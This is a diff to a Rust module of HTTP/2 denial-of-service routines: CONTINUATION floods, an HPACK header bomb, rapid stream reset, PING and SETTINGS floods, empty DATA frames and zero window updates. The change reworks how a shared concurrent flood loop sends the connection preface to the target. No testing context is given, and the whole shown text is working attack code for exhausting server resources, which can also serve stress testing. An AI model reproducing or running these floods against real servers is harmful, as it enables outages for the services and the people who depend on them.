@@ -14,7 +14,7 @@ const BATCH: usize = 200;
 
 /// Heads that go on and on.
 pub async fn continuation(target: Arc<Target>, size: Size) -> String {
-    let first = [beginning(), frame(HEADERS, 0, 1, &head(GET, None))].concat();
+    let first = frame(HEADERS, 0, 1, &head(GET, None));
     let piece = frame(CONTINUATION, 0, 1, &[]).repeat(BATCH);
     flood(target, size, first, move |_| piece.clone()).await
 }
@@ -26,7 +26,7 @@ pub async fn large_headers(target: Arc<Target>, size: Size) -> String {
         let at = block.len();
         literal(&mut block, &format!("x-{at}"), "v");
     }
-    flood(target, size, beginning(), move |at| frame(HEADERS, END_HEADERS | END_STREAM, id(at), &block)).await
+    flood(target, size, vec![], move |at| frame(HEADERS, END_HEADERS | END_STREAM, id(at), &block)).await
 }
 
 /// A field of 4000 bytes, and a byte for each time that it is there again.
@@ -39,7 +39,7 @@ pub async fn hpack_bomb(target: Arc<Target>, size: Size) -> String {
         bomb.extend_from_slice(text.as_bytes());
     }
     bomb.resize(16_000, 0x80 | 62);
-    flood(target, size, beginning(), move |at| frame(HEADERS, END_HEADERS | END_STREAM, id(at), &bomb)).await
+    flood(target, size, vec![], move |at| frame(HEADERS, END_HEADERS | END_STREAM, id(at), &bomb)).await
 }
 
 /// Calls that are taken back at once.
@@ -51,22 +51,22 @@ pub async fn rapid_reset(target: Arc<Target>, size: Size) -> String {
         };
         (at * BATCH..(at + 1) * BATCH).flat_map(call).collect()
     };
-    flood(target, size, beginning(), calls).await
+    flood(target, size, vec![], calls).await
 }
 
 pub async fn ping(target: Arc<Target>, size: Size) -> String {
     let pings = frame(PING, 0, 0, &[7; 8]).repeat(BATCH);
-    flood(target, size, beginning(), move |_| pings.clone()).await
+    flood(target, size, vec![], move |_| pings.clone()).await
 }
 
 pub async fn settings(target: Arc<Target>, size: Size) -> String {
     let settings = frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]).repeat(BATCH);
-    flood(target, size, beginning(), move |_| settings.clone()).await
+    flood(target, size, vec![], move |_| settings.clone()).await
 }
 
 /// On a call that is waited for.
 pub async fn empty_data(target: Arc<Target>, size: Size) -> String {
-    let first = [beginning(), frame(HEADERS, END_HEADERS, 1, &head(GET, Some(&target.token)))].concat();
+    let first = frame(HEADERS, END_HEADERS, 1, &head(GET, Some(&target.token)));
     let data = frame(DATA, 0, 1, &[]).repeat(BATCH);
     flood(target, size, first, move |_| data.clone()).await
 }
@@ -80,7 +80,7 @@ pub async fn zero_window_updates(target: Arc<Target>, size: Size) -> String {
         };
         (at * BATCH..(at + 1) * BATCH).flat_map(call).collect()
     };
-    flood(target, size, beginning(), calls).await
+    flood(target, size, vec![], calls).await
 }
 
 /// Connections that are closed as soon as they are there.
@@ -123,11 +123,13 @@ async fn flood(
         let (sent, opened) = (sent.clone(), opened.clone());
         workers.spawn(async move {
             while Instant::now() < end {
-                let Some(mut connection) = Shouting::open(target.address, number, &first).await else {
+                let Some(mut connection) = Shouting::settle(target.address, number, &beginning()).await
+                else {
                     continue;
                 };
                 opened.fetch_add(1, Ordering::Relaxed);
                 let mut at = 0;
+                connection.say(&first, end).await;
                 loop {
                     let bytes = more(at);
                     if !connection.say(&bytes, end).await {
